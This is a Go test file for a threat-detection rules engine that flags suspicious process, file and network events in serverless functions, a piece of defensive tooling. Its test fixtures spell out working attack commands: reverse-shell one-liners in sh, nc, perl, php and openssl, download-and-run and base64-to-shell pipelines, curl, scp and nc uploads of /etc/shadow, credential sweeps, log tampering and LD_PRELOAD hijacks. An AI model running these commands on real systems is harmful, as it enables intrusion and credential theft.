package rules

import (
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"moat.dev/moat/internal/detect"
)

var t0 = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)

// ev builds an event of a Go function in its invoke phase.
func ev(kind string, f func(*detect.Event)) detect.Event {
	e := detect.Event{Time: t0, Kind: kind, Function: "fn", Version: "1", Instance: "i", RequestID: "r1",
		Phase: detect.PhaseInvoke, Runtime: "provided.al2023", PID: 10, PPID: 1, Exe: "/var/task/bootstrap"}
	if f != nil {
		f(&e)
	}
	return e
}

func exec(path string, argv ...string) detect.Event {
	return ev("exec", func(e *detect.Event) { e.Path, e.Argv = path, append([]string{path}, argv...) })
}

// named is an exec of path that gives itself argv[0] name.
func named(path, name string, argv ...string) detect.Event {
	return ev("exec", func(e *detect.Event) { e.Path, e.Argv = path, append([]string{name}, argv...) })
}

func open(path string, intent ...string) detect.Event {
	return ev("open", func(e *detect.Event) { e.Path, e.Intent = path, intent })
}

func connect(family, addr string, port int) detect.Event {
	return ev("connect", func(e *detect.Event) { e.Family, e.Addr, e.Port = family, addr, port; e.Syscall = "connect" })
}

func denied(syscall string, at time.Duration) detect.Event {
	return ev("denied", func(e *detect.Event) {
		e.Syscall, e.Errno, e.Result, e.Time = syscall, "EPERM", -1, t0.Add(at)
	})
}

// refused marks an event as refused by the kernel with EACCES.
func refused(e detect.Event) detect.Event {
	e.Result, e.Errno = -13, "EACCES"
	return e
}

// fired runs events through a fresh state and returns the rules that fired.
func fired(t *testing.T, e *Engine, evs ...detect.Event) []string {
	t.Helper()
	st := e.NewState()
	var out []string
	for i := range evs {
		for _, a := range e.Eval(st, &evs[i]) {
			if a.RequestID != evs[i].RequestID || a.Function != "fn" || len(a.Evidence) == 0 || a.Summary == "" {
				t.Errorf("alert %s lacks attribution or evidence: %+v", a.Rule, a)
			}
			out = append(out, a.Rule)
		}
	}
	return out
}

func TestBuiltins(t *testing.T) {
	e, err := New(nil)
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name   string
		events []detect.Event
		want   []string
	}{
		{"shell spawned", []detect.Event{exec("/bin/sh", "-c", "id")}, []string{"shell-spawned"}},
		{"python spawned", []detect.Event{exec("/usr/bin/python3.11", "-c", "1")}, []string{"shell-spawned"}},
		{"shell runtime's shell is fine", []detect.Event{func() detect.Event { x := exec("/bin/sh", "-c", "x"); x.Runtime = "shell"; return x }()}, nil},
		{"interpreter during init is fine", []detect.Event{func() detect.Event { x := exec("/usr/bin/python3", "h.py"); x.Phase = detect.PhaseInit; return x }()}, nil},
		{"reverse shell argv", []detect.Event{exec("/bin/sh", "-c", "sh -i >& /dev/tcp/198.18.0.1/4444 0>&1")}, []string{"shell-spawned", "reverse-shell"}},
		{"nc -e", []detect.Event{exec("/usr/bin/nc", "198.18.0.1", "4444", "-e", "/bin/sh")}, []string{"reverse-shell", "network-tool"}},
		{"connect then shell", []detect.Event{connect("inet", "198.18.0.1", 4444), exec("/bin/sh", "-c", "exit 0")}, []string{"mining-pool", "shell-spawned", "reverse-shell"}},
		{"download piped to shell", []detect.Event{exec("/bin/sh", "-c", "curl -fsS http://198.18.0.1/x | sh")}, []string{"shell-spawned", "download-exec"}},
		{"write then exec", []detect.Event{open("/tmp/x/p", "write", "create"), exec("/tmp/x/p")}, []string{"tmp-write-exec", "exec-from-writable"}},
		// A create the kernel refused wrote nothing: the exec is only
		// an exec from a writable place.
		{"refused write then exec", []detect.Event{refused(open("/tmp/x/p", "write", "create")), exec("/tmp/x/p")}, []string{"exec-from-writable"}},
		{"curl, write, exec", []detect.Event{exec("/usr/bin/curl"), open("/tmp/p", "write", "create"), exec("/tmp/p")},
			[]string{"download-exec", "tmp-write-exec", "exec-from-writable", "ingress-tool"}},
		{"refused curl, write, exec", []detect.Event{refused(exec("/usr/bin/curl")), open("/tmp/p", "write", "create"), exec("/tmp/p")},
			[]string{"tmp-write-exec", "exec-from-writable", "ingress-tool"}},
		{"chmod +x in tmp", []detect.Event{ev("chmod", func(e *detect.Event) { e.Path, e.Mode = "/tmp/p", 0o755 })}, []string{"tmp-chmod-exec"}},
		{"hidden exec", []detect.Event{exec("/var/task/.hidden")}, []string{"exec-from-writable"}},
		{"memfd exec", []detect.Event{func() detect.Event {
			x := exec("/dev/fd/3", "payload")
			x.ExeName, x.Fileless = "memfd:payload", true
			return x
		}()}, []string{"fileless-exec"}},
		{"exec of a descriptor of a linked file is not fileless", []detect.Event{func() detect.Event {
			x := exec("/dev/fd/3", "true")
			x.ExeName = "true"
			return x
		}()}, nil},
		{"shm exec attempt", []detect.Event{func() detect.Event { x := exec("/dev/shm/p"); x.Result, x.Errno = -2, "ENOENT"; return x }()}, []string{"exec-from-writable"}},
		{"environ", []detect.Event{open("/proc/1/environ", "read")}, []string{"environ-read"}},
		{"own environ", []detect.Event{open("/proc/self/environ", "read")}, []string{"environ-read"}},
		{"shadow", []detect.Event{open("/etc/shadow", "read")}, []string{"credential-read"}},
		{"aws credentials", []detect.Event{open("/home/u/.aws/credentials", "read")}, []string{"credential-read"}},
		{"ssh key", []detect.Event{open("/root/.ssh/id_ed25519", "read")}, []string{"credential-read"}},
		{"metadata", []detect.Event{connect("inet", "169.254.169.254", 80)}, []string{"metadata-access"}},
		{"listener", []detect.Event{ev("listen", func(e *detect.Event) { e.Syscall = "listen" })}, []string{"listener"}},
		{"metadata by udp", []detect.Event{func() detect.Event { x := connect("inet", "169.254.169.254", 53); x.Kind = "sendto"; return x }()}, []string{"metadata-access"}},
		{"metadata v6", []detect.Event{connect("inet6", "fd00:ec2::254", 80)}, []string{"metadata-access"}},
		{"mining port", []detect.Event{connect("inet", "198.18.0.1", 3333)}, []string{"mining-pool"}},
		{"miner argv", []detect.Event{exec("/tmp/m", "-o", "stratum+tcp://pool:1")}, []string{"exec-from-writable", "mining-pool"}},
		{"denied ptrace", []detect.Event{denied("ptrace", 0)}, []string{"denied-syscall"}},
		{"denied harmless", []detect.Event{denied("clone3", 0)}, nil},
		{"setuid", []detect.Event{ev("setid", func(e *detect.Event) { e.Syscall, e.IDs = "setuid", []int64{0, -1, -1} })}, []string{"privilege-change"}},
		{"capset", []detect.Event{ev("capset", func(e *detect.Event) { e.Syscall = "capset" })}, []string{"privilege-change"}},
		{"docker socket", []detect.Event{connect("unix", "/var/run/docker.sock", 0)}, []string{"container-socket"}},
		{"code tamper", []detect.Event{open("/var/task/bootstrap", "write")}, []string{"sensitive-write"}},
		{"link into the system directories", []detect.Event{ev("link", func(e *detect.Event) { e.Path, e.NewPath = "/tmp/p", "/usr/bin/p" })}, []string{"sensitive-write"}},
		{"link of a system file to /tmp is not a write there", []detect.Event{ev("link", func(e *detect.Event) { e.Path, e.NewPath = "/usr/bin/true", "/tmp/t" })}, nil},
		{"symlink in the code", []detect.Event{ev("symlink", func(e *detect.Event) { e.Target, e.NewPath = "/tmp/evil", "/var/task/lib.so" })}, []string{"sensitive-write"}},
		{"truncate a system file", []detect.Event{ev("truncate", func(e *detect.Event) { e.Path = "/etc/passwd" })}, []string{"sensitive-write"}},
		{"backdate the code", []detect.Event{ev("utimes", func(e *detect.Event) { e.Path, e.TimesSet = "/var/task/bootstrap", true })}, []string{"sensitive-write"}},
		{"chown in the system directories", []detect.Event{ev("chown", func(e *detect.Event) { e.Path, e.IDs = "/usr/bin/su", []int64{0, 0} })}, []string{"sensitive-write"}},
		{"mkdir in /tmp is fine", []detect.Event{ev("mkdir", func(e *detect.Event) { e.Path, e.Mode = "/tmp/cache", 0o755 })}, nil},
		{"link then exec", []detect.Event{ev("link", func(e *detect.Event) { e.Path, e.NewPath = "/usr/bin/true", "/tmp/.x/run" }), exec("/tmp/.x/run")},
			[]string{"tmp-write-exec", "exec-from-writable"}},
		{"truncate then exec", []detect.Event{ev("truncate", func(e *detect.Event) { e.Path = "/tmp/p" }), exec("/tmp/p")},
			[]string{"tmp-write-exec", "exec-from-writable"}},
		// Host rules, each with a benign counterpart.
		{"setuid bit by chmod", []detect.Event{ev("chmod", func(e *detect.Event) { e.Path, e.Mode = "/tmp/sh", 0o4755 })}, []string{"setuid-bit", "tmp-chmod-exec"}},
		{"setgid bit by fchmod", []detect.Event{ev("chmod", func(e *detect.Event) { e.FD, e.Mode = 4, 0o2755 })}, []string{"setuid-bit"}},
		{"setuid file created", []detect.Event{ev("open", func(e *detect.Event) { e.Path, e.Intent, e.Mode = "/tmp/x", []string{"write", "create"}, 0o4700 })}, []string{"setuid-bit", "tmp-chmod-exec"}},
		{"plain chmod is no setuid", []detect.Event{ev("chmod", func(e *detect.Event) { e.Path, e.Mode = "/tmp/data", 0o600 })}, nil},
		{"history removed", []detect.Event{ev("unlink", func(e *detect.Event) { e.Path = "/root/.bash_history" })}, []string{"history-tamper"}},
		{"history emptied", []detect.Event{open("/home/x/.zsh_history", "write", "trunc")}, []string{"history-tamper"}},
		{"history sent to /dev/null", []detect.Event{ev("symlink", func(e *detect.Event) { e.Target, e.NewPath = "/dev/null", "/root/.bash_history" })}, []string{"history-tamper"}},
		{"log truncated", []detect.Event{ev("truncate", func(e *detect.Event) { e.Path = "/var/log/auth.log" })}, []string{"history-tamper"}},
		{"log backdated", []detect.Event{ev("utimes", func(e *detect.Event) { e.Path, e.TimesSet = "/var/log/syslog", true })}, []string{"history-tamper"}},
		{"history appended is what shells do", []detect.Event{open("/root/.bash_history", "write")}, nil},
		{"bashrc written", []detect.Event{open("/root/.bashrc", "write")}, []string{"shell-profile-write"}},
		{"profile.d script created", []detect.Event{open("/etc/profile.d/x.sh", "write", "create")}, []string{"shell-profile-write", "sensitive-write"}},
		{"ld.so.preload", []detect.Event{open("/etc/ld.so.preload", "write", "create")}, []string{"shell-profile-write", "sensitive-write"}},
		{"bashrc read is fine", []detect.Event{open("/root/.bashrc", "read")}, nil},
		{"kallsyms read", []detect.Event{open("/proc/kallsyms", "read")}, []string{"kernel-info-read"}},
		{"kernel config read", []detect.Event{open("/boot/config-6.1.0", "read")}, []string{"kernel-info-read"}},
		{"cpuinfo is fine", []detect.Event{open("/proc/cpuinfo", "read")}, nil},
		{"pip install", []detect.Event{exec("/usr/bin/pip3", "install", "x")}, []string{"package-manager"}},
		{"apt-get", []detect.Event{exec("/usr/bin/apt-get", "install", "-y", "nmap")}, []string{"package-manager"}},
		{"npm during init is fine", []detect.Event{func() detect.Event { x := exec("/usr/bin/npm", "ci"); x.Phase = detect.PhaseInit; return x }()}, nil},
		{"shred", []detect.Event{exec("/usr/bin/shred", "-u", "/tmp/x")}, []string{"wipe-tool"}},
		{"namespace clone refused", []detect.Event{denied("clone", 0)}, []string{"denied-syscall"}},
		{"npm token", []detect.Event{open("/home/u/.npmrc", "read")}, []string{"credential-read"}},
		{"gcloud application credentials", []detect.Event{open("/root/.config/gcloud/application_default_credentials.json", "read")}, []string{"credential-read"}},
		{"vault token", []detect.Event{open("/root/.vault-token", "read")}, []string{"credential-read"}},
		{"kernel thread name", []detect.Event{named("/tmp/x", "[kworker/0:1]")}, []string{"exec-from-writable", "masquerade"}},
		{"sshd name", []detect.Event{named("/var/task/helper", "sshd")}, []string{"masquerade"}},
		{"the real name is fine", []detect.Event{named("/usr/sbin/sshd", "sshd")}, nil},
		{"a program's own name is fine", []detect.Event{named("/var/task/bootstrap", "bootstrap")}, nil},
		{"thread renamed a kernel thread", []detect.Event{ev("setname", func(e *detect.Event) { e.Name = "[kworker/0:2]" })}, []string{"masquerade"}},
		{"thread renamed a worker is fine", []detect.Event{ev("setname", func(e *detect.Event) { e.Name = "libuv-worker" })}, nil},
		{"network tool", []detect.Event{exec("/usr/bin/socat", "-", "tcp:x:1")}, []string{"network-tool"}},
		{"base64 into a shell", []detect.Event{exec("/bin/sh", "-c", "echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh")}, []string{"decode-exec", "shell-spawned"}},
		{"python exec of a b64decode", []detect.Event{exec("/usr/bin/python3", "-c", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))")}, []string{"decode-exec", "shell-spawned"}},
		{"base64 of a file is fine", []detect.Event{func() detect.Event {
			x := exec("/bin/sh", "-c", "base64 -d /var/task/blob > /tmp/blob")
			x.Runtime = "shell"
			return x
		}()}, nil},
		{"base64 -d by a Go function", []detect.Event{exec("/usr/bin/base64", "-d", "/tmp/blob")}, []string{"decode-payload"}},
		{"a decode step in an argument", []detect.Event{exec("/bin/echo", "ZGVj", "|", "base64", "-d")}, []string{"decode-payload"}},
		{"base64 encoding is fine", []detect.Event{exec("/usr/bin/base64", "/tmp/blob")}, nil},
		{"zcat of data is fine", []detect.Event{exec("/bin/zcat", "/var/task/data.gz")}, nil},
		{"find for keys", []detect.Event{exec("/usr/bin/find", "/", "-name", "id_rsa*")}, []string{"credential-sweep"}},
		{"grep for AWS secrets", []detect.Event{exec("/bin/grep", "-r", "aws_secret_access_key", "/home")}, []string{"credential-sweep"}},
		{"find of the function's own files is fine", []detect.Event{exec("/usr/bin/find", "/var/task", "-name", "*.json")}, nil},
		{"curl uploads a file", []detect.Event{exec("/usr/bin/curl", "-s", "-X", "POST", "--data-binary", "@/etc/passwd", "http://198.51.100.1/x")}, []string{"exfil-upload", "ingress-tool"}},
		{"curl -d @file", []detect.Event{exec("/usr/bin/curl", "-d", "@/tmp/loot.tgz", "http://198.51.100.1/x")}, []string{"exfil-upload", "ingress-tool"}},
		{"curl -T", []detect.Event{exec("/usr/bin/curl", "-T", "/tmp/dump.sql", "ftp://198.51.100.1/")}, []string{"exfil-upload", "ingress-tool"}},
		{"scp to a remote", []detect.Event{exec("/usr/bin/scp", "/tmp/k", "u@198.51.100.1:/x")}, []string{"exfil-upload", "network-tool"}},
		{"a file fed to nc", []detect.Event{func() detect.Event {
			x := exec("/bin/sh", "-c", "nc 198.51.100.1 9 < /etc/shadow")
			x.Phase = detect.PhaseInit
			return x
		}()}, []string{"exfil-upload"}},
		{"a shell runtime posting its response is fine", []detect.Event{func() detect.Event {
			x := exec("/usr/bin/curl", "-sS", "-d", "@/tmp/response.json", "http://127.0.0.1:9001/2018-06-01/runtime/invocation/abc/response")
			x.Runtime = "shell"
			return x
		}()}, nil},
		{"curl download is fine", []detect.Event{func() detect.Event {
			x := exec("/usr/bin/curl", "-o", "/tmp/x", "http://127.0.0.1:9001/data")
			x.Runtime = "shell"
			return x
		}()}, nil},
		{"tor started", []detect.Event{exec("/usr/bin/tor", "--SocksPort", "9050")}, []string{"anonymity-network"}},
		{"socks to the tor port", []detect.Event{connect("inet", "127.0.0.1", 9050)}, []string{"anonymity-network"}},
		{"hidden directory '...'", []detect.Event{ev("mkdir", func(e *detect.Event) { e.Path = "/tmp/..." })}, []string{"hidden-file"}},
		{"dotfile in /dev/shm", []detect.Event{open("/dev/shm/.x", "write", "create")}, []string{"hidden-file"}},
		{"a dotfile in /tmp is fine", []detect.Event{open("/tmp/.cache-lock", "write", "create")}, nil},
		{"xmrig renamed", []detect.Event{exec("/tmp/xmrig-6.21-notls", "-o", "pool:443")}, []string{"mining-pool", "exec-from-writable"}},
		{"a miner under another name, by its flags", []detect.Event{exec("/var/task/worker", "--donate-level=1", "-o", "x:443", "-a", "rx/0")}, []string{"mining-pool"}},
		{"perl socket one-liner", []detect.Event{exec("/usr/bin/perl", "-e", `use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i");`)}, []string{"reverse-shell", "shell-spawned"}},
		{"php fsockopen", []detect.Event{exec("/usr/bin/php", "-r", `$s=fsockopen("198.51.100.1",9);exec("/bin/sh -i <&3 >&3 2>&3");`)}, []string{"reverse-shell", "shell-spawned"}},
		{"gawk /inet/tcp", []detect.Event{exec("/usr/bin/gawk", "BEGIN{s=\"/inet/tcp/0/198.51.100.1/9\"}")}, []string{"reverse-shell"}},
		{"openssl s_client piped into a shell", []detect.Event{exec("/bin/sh", "-c", "mkfifo /tmp/f; openssl s_client -quiet -connect 198.51.100.1:9 < /tmp/f | /bin/sh > /tmp/f")}, []string{"reverse-shell", "shell-spawned"}},
		{"python http client is fine", []detect.Event{func() detect.Event {
			x := exec("/usr/bin/python3", "-c", "import socket; print(socket.gethostname())")
			x.Phase = detect.PhaseInit
			return x
		}()}, nil},
		{"symlink to shadow", []detect.Event{ev("symlink", func(e *detect.Event) { e.Target, e.NewPath = "/etc/../etc/shadow", "/tmp/notes" })}, []string{"sensitive-link"}},
		{"symlink to /etc", []detect.Event{ev("symlink", func(e *detect.Event) { e.Target, e.NewPath = "/etc/", "/tmp/x/etc_link" })}, []string{"sensitive-link"}},
		{"hard link to shadow", []detect.Event{ev("link", func(e *detect.Event) { e.Path, e.NewPath = "/etc/shadow", "/tmp/s" })}, []string{"sensitive-link"}},
		{"a symlink to a library is fine", []detect.Event{ev("symlink", func(e *detect.Event) { e.Target, e.NewPath = "/var/task/lib/libx.so.1", "/tmp/libx.so" })}, nil},
		{"syslog emptied", []detect.Event{open("/tmp/d/syslog", "write", "create", "trunc")}, []string{"history-tamper"}},
		{"a history file without its dot removed", []detect.Event{ev("unlink", func(e *detect.Event) { e.Path = "/tmp/d/ash_history" })}, []string{"history-tamper"}},
		{"stratum in an argument", []detect.Event{exec("/bin/echo", "-o stratum+tcp", "-u user")}, []string{"mining-pool"}},
		{"a file made under /dev", []detect.Event{refused(open("/dev/.hidden-x", "write", "create"))}, []string{"sensitive-write"}},
		{"a hidden directory in /tmp", []detect.Event{ev("mkdir", func(e *detect.Event) { e.Path = "/tmp/.x-1234" })}, []string{"hidden-file"}},
		{"a cache directory is fine", []detect.Event{ev("mkdir", func(e *detect.Event) { e.Path = "/tmp/.cache" })}, nil},
		{"/dev/shm made", []detect.Event{refused(ev("mkdir", func(e *detect.Event) { e.Path = "/dev/shm" }))}, []string{"sensitive-write"}},
		{"a directory at the top of the root", []detect.Event{refused(ev("mkdir", func(e *detect.Event) { e.Path = "/root" }))}, []string{"sensitive-write"}},
		{"a file created executable in /tmp", []detect.Event{ev("open", func(e *detect.Event) {
			e.Path, e.Intent, e.Mode, e.Flags = "/tmp/drift", []string{"write", "create"}, 0o755, 0o101
		})}, []string{"tmp-chmod-exec"}},
		{"a file created 0666 in /tmp is fine", []detect.Event{ev("open", func(e *detect.Event) {
			e.Path, e.Intent, e.Mode, e.Flags = "/tmp/out.json", []string{"write", "create"}, 0o666, 0o101
		})}, nil},
		{"wget by a Go function", []detect.Event{exec("/usr/bin/wget", "-V")}, []string{"ingress-tool"}},
		{"/proc/self/exe opened for writing", []detect.Event{open("/proc/self/exe", "write")}, []string{"proc-exe-write"}},
		{"stdout reopened for writing through /proc", []detect.Event{open("/proc/7/fd/1", "write")}, []string{"proc-exe-write"}},
		{"/proc/self/fd read is fine", []detect.Event{open("/proc/self/fd/3", "read")}, nil},
		{"/var/lib made", []detect.Event{refused(ev("mkdir", func(e *detect.Event) { e.Path = "/var/lib" }))}, []string{"sensitive-write"}},
		{"output to /dev/null is fine", []detect.Event{open("/dev/null", "write", "create", "trunc")}, nil},
		{"a relative symlink is fine", []detect.Event{ev("symlink", func(e *detect.Event) { e.Target, e.NewPath = "shadow", "/tmp/notes" })}, nil},
		{"renamed key file", []detect.Event{open("/tmp/id_rsa.bak", "read")}, []string{"credential-read"}},
		{"backup of AWS credentials", []detect.Event{open("/home/u/.aws/credentials.old", "read")}, []string{"credential-read"}},
		{"a public key is fine", []detect.Event{open("/var/task/keys/id_ed25519.pub", "read")}, nil},
		{"LD_PRELOAD", []detect.Event{withEnv(exec("/usr/bin/id"), "LD_PRELOAD=/var/task/lib/hook.so")}, []string{"loader-hijack"}},
		{"LD_AUDIT", []detect.Event{withEnv(exec("/usr/bin/id"), "LD_AUDIT=libaudit.so")}, []string{"loader-hijack"}},
		{"library path through /dev/shm", []detect.Event{withEnv(exec("/usr/bin/id"), "LD_LIBRARY_PATH=/lib64:/dev/shm")}, []string{"loader-hijack"}},
		{"the runtime's library path is fine", []detect.Event{withEnv(exec("/var/task/bootstrap"),
			"LD_LIBRARY_PATH=/lib64:/usr/lib64:/var/runtime:/var/runtime/lib:/var/task:/var/task/lib:/opt/lib", "LD_PRELOAD=")}, nil},
		{"credential read through a symlink", []detect.Event{ev("open", func(e *detect.Event) {
			e.Path, e.Opened, e.Intent = "/tmp/innocent", "/etc/shadow", []string{"read"}
		})}, []string{"credential-read"}},
		{"environ through /proc/self, opened by pid", []detect.Event{ev("open", func(e *detect.Event) {
			e.Path, e.Opened, e.Intent = "/var/task/x", "/proc/7/environ", []string{"read"}
		})}, []string{"environ-read"}},
		{"a symlink to an ordinary file is fine", []detect.Event{ev("open", func(e *detect.Event) {
			e.Path, e.Opened, e.Intent = "/etc/localtime", "/usr/share/zoneinfo/Etc/UTC", []string{"read"}
		})}, nil},
		{"written through a link, run by its real name", []detect.Event{
			ev("open", func(e *detect.Event) {
				e.Path, e.Opened, e.Intent = "/tmp/out", "/tmp/payload", []string{"write", "create"}
			}),
			exec("/tmp/payload"),
		}, []string{"tmp-write-exec", "exec-from-writable"}},
		{"run through a symlink from a writable place", []detect.Event{ev("exec", func(e *detect.Event) {
			e.Path, e.Opened, e.Argv = "/var/task/tool", "/dev/shm/.x", []string{"tool"}
		})}, []string{"exec-from-writable"}},
		{"benign go function", []detect.Event{
			open("/var/task/config.json", "read"), open("/etc/hosts", "read"), open("/tmp/scratch-1.json", "write", "create"),
			open("/tmp/scratch-1.json", "read"), ev("unlink", func(e *detect.Event) { e.Path = "/tmp/scratch-1.json" }),
			connect("inet", "127.0.0.1", 9001), connect("inet", "198.18.0.5", 443),
		}, nil},
		{"shell runtime init", []detect.Event{
			func() detect.Event {
				x := exec("/usr/bin/curl", "-sS", "http://127.0.0.1:9001/next")
				x.Runtime = "shell"
				return x
			}(),
			func() detect.Event {
				x := exec("/bin/sh", "-n", "f.sh")
				x.Runtime, x.Phase = "shell", detect.PhaseInit
				return x
			}(),
		}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := fired(t, e, tt.events...)
			slices.Sort(got)
			want := slices.Clone(tt.want)
			slices.Sort(want)
			if !slices.Equal(got, want) {
				t.Errorf("fired %v, want %v", got, want)
			}
		})
	}
}

func withEnv(e detect.Event, env ...string) detect.Event {
	e.Env = env
	return e
}

func fork(at time.Duration, errno string) detect.Event {
	return ev("fork", func(e *detect.Event) {
		e.Syscall, e.Time, e.Result = "clone", t0.Add(at), 42
		if errno != "" {
			e.Result, e.Errno = -11, errno
		}
	})
}

func TestProcessStorm(t *testing.T) {
	e, _ := New(nil)
	exit := ev("exit", nil)
	var evs []detect.Event
	for i := range 200 {
		evs = append(evs, fork(time.Duration(i)*time.Millisecond, ""))
	}
	if got := fired(t, e, evs...); !slices.Equal(got, []string{"process-storm"}) {
		t.Errorf("200 processes alive at once fired %v, want one process-storm", got)
	}
	// A busy function that runs a tool per request: a thousand
	// processes, each gone before the next (or just after: an exit may
	// arrive before its fork).
	evs = nil
	for i := range 1000 {
		if i%2 == 0 {
			evs = append(evs, exit, fork(time.Duration(i)*time.Millisecond, ""))
		} else {
			evs = append(evs, fork(time.Duration(i)*time.Millisecond, ""), exit)
		}
	}
	if got := fired(t, e, evs...); len(got) != 0 {
		t.Errorf("a thousand short-lived processes fired %v", got)
	}
	// The pids limit refused one: a storm whatever the count.
	if got := fired(t, e, fork(0, ""), fork(time.Millisecond, "EAGAIN")); !slices.Equal(got, []string{"process-storm"}) {
		t.Errorf("a fork refused by the pids limit fired %v", got)
	}
	if got := fired(t, e, fork(0, "ENOMEM")); len(got) != 0 {
		t.Errorf("a fork out of memory fired %v", got)
	}
}

func TestDirectorySweep(t *testing.T) {
	e, _ := New(nil)
	dir := func(p string, at time.Duration) detect.Event {
		return ev("open", func(e *detect.Event) {
			e.Path, e.Flags, e.Intent, e.Time, e.Result = p, oDirectory, []string{"read"}, t0.Add(at), 3
		})
	}
	var evs []detect.Event
	for i := range 400 {
		evs = append(evs, dir(fmt.Sprintf("/home/u%d/.config", i), time.Duration(i)*time.Millisecond))
	}
	if got := fired(t, e, evs...); !slices.Equal(got, []string{"directory-sweep"}) {
		t.Errorf("400 directories in 400 ms fired %v, want one directory-sweep", got)
	}
	// A runtime's module search, and a function listing its own tree
	// and a few others, slowly.
	evs = nil
	for i := range 500 {
		evs = append(evs, dir(fmt.Sprintf("/var/task/node_modules/m%d", i), 0))
	}
	for i := range 300 {
		evs = append(evs, dir(fmt.Sprintf("/tmp/job-%d", i), time.Duration(i)*time.Millisecond))
	}
	for i := range 300 {
		x := dir(fmt.Sprintf("/home/u%d", i), time.Duration(i)*time.Millisecond)
		x.RequestID = fmt.Sprintf("r%d", i) // one a request
		evs = append(evs, x)
	}
	if got := fired(t, e, evs...); len(got) != 0 {
		t.Errorf("benign listings fired %v", got)
	}
}

func TestDeniedBurst(t *testing.T) {
	e, _ := New(nil)
	var evs []detect.Event
	for i := range 25 {
		evs = append(evs, denied("keyctl", time.Duration(i)*10*time.Millisecond))
	}
	got := fired(t, e, evs...)
	n := 0
	for _, r := range got {
		if r == "denied-burst" {
			n++
		}
	}
	// 25 denials in 250 ms: one burst alert; keyctl itself once (dedup).
	if n != 1 || !slices.Contains(got, "denied-syscall") || len(got) != 2 {
		t.Errorf("fired %v, want one denied-burst and one denied-syscall", got)
	}
	// Nine spread over more than a second: no burst.
	evs = nil
	for i := range 9 {
		evs = append(evs, denied("clone3", time.Duration(i)*200*time.Millisecond))
	}
	if got := fired(t, e, evs...); len(got) != 0 {
		t.Errorf("slow denials fired %v", got)
	}
}

func TestDedupPerRequest(t *testing.T) {
	e, _ := New(nil)
	st := e.NewState()
	a := open("/proc/1/environ", "read")
	b := a
	b.RequestID = "r2"
	n := 0
	for _, x := range []detect.Event{a, a, a, b} {
		n += len(e.Eval(st, &x))
	}
	if n != 2 || st.Suppressed() != 2 {
		t.Errorf("alerts %d, suppressed %d; want 2 and 2", n, st.Suppressed())
	}
}

const userRules = `
rules:
  - name: no-curl
    description: curl started
    severity: high
    condition: kind == "exec" && path.endsWith("/curl")
  - name: redis-outside
    severity: medium
    condition: kind == "connect" && port == 6379 && !addr.startsWith("10.")
  - name: tmp-writes
    severity: low
    condition: kind == "open" && "write" in intent && path.startsWith("/tmp/")
    functions: ["orders-*"]
  - name: base64-argv
    severity: info
    condition: kind == "exec" && argv.exists(a, a.contains("base64"))
  - name: fragile
    severity: low
    condition: kind == "exec" && argv[5] == "x"
disable: [network-tool, ingress-tool, decode-payload]
`

func TestUserRules(t *testing.T) {
	f, err := Parse([]byte(userRules))
	if err != nil {
		t.Fatal(err)
	}
	e, err := New(f)
	if err != nil {
		t.Fatal(err)
	}
	orders := open("/tmp/a", "write")
	orders.Function = "orders-eu"
	tests := []struct {
		name string
		ev   detect.Event
		want []string
	}{
		{"curl", exec("/usr/bin/curl", "-s", "x"), []string{"no-curl"}},
		{"redis outside", connect("inet", "198.18.0.7", 6379), []string{"redis-outside"}},
		{"redis inside", connect("inet", "10.0.0.7", 6379), nil},
		{"tmp write of another function", open("/tmp/a", "write"), nil},
		{"tmp write of orders", orders, []string{"tmp-writes"}},
		{"base64", exec("/usr/bin/base64", "-d"), []string{"base64-argv"}},
		{"network tool disabled", exec("/usr/bin/nmap", "x"), nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var got []string
			for _, a := range e.Eval(e.NewState(), &tt.ev) {
				if a.Rule == "no-curl" && a.Summary != "curl started: exec /usr/bin/curl -s x" {
					t.Errorf("summary %q", a.Summary)
				}
				got = append(got, a.Rule)
			}
			if !slices.Equal(got, tt.want) {
				t.Errorf("fired %v, want %v", got, tt.want)
			}
		})
	}
	// argv[5] out of range: an evaluation error, counted, no match.
	if e.EvalErrors() == 0 {
		t.Error("the out-of-range argv index was not counted as an evaluation error")
	}
}

func TestParseErrors(t *testing.T) {
	tests := []struct{ name, doc, want string }{
		{"not yaml", "rules: [", "did not find"},
		{"unknown field", "rules:\n  - name: a\n    severity: low\n    condition: 'true'\n    when: x\n", "line 5: field when not found"},
		{"bad name", "rules:\n  - name: Bad Name\n    severity: low\n    condition: 'true'\n", "name must match"},
		{"builtin name", "rules:\n  - name: shell-spawned\n    severity: low\n    condition: 'true'\n", "built-in"},
		{"duplicate", "rules:\n  - {name: a, severity: low, condition: 'true'}\n  - {name: a, severity: low, condition: 'true'}\n", "used twice"},
		{"severity", "rules:\n  - {name: a, severity: urgent, condition: 'true'}\n", "severity must be"},
		{"no condition", "rules:\n  - {name: a, severity: low}\n", "condition is required"},
		{"bad glob", "rules:\n  - {name: a, severity: low, condition: 'true', functions: ['[']}\n", "not a valid pattern"},
		{"unknown disable", "disable: [nope]\n", "not a built-in rule"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Parse([]byte(tt.doc))
			if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("Parse = %v, want ErrInvalid containing %q", err, tt.want)
			}
		})
	}
	if f, err := Parse(nil); err != nil || len(f.Rules) != 0 {
		t.Errorf("empty file: %v", err)
	}
}

func TestCompileErrors(t *testing.T) {
	tests := []struct{ name, cond, want string }{
		{"syntax", `kind == `, "Syntax error"},
		{"unknown field", `kind == "exec" && hostname == "x"`, "undeclared reference to 'hostname'"},
		{"not bool", `path`, "must be a bool"},
		{"type error", `port == "80"`, "no matching overload"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := New(&File{Rules: []Rule{{Name: "r", Severity: detect.SeverityLow, Condition: tt.cond}}})
			if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), tt.want) || !strings.Contains(err.Error(), `rule "r"`) {
				t.Errorf("New = %v, want ErrInvalid naming rule r and containing %q", err, tt.want)
			}
		})
	}
}

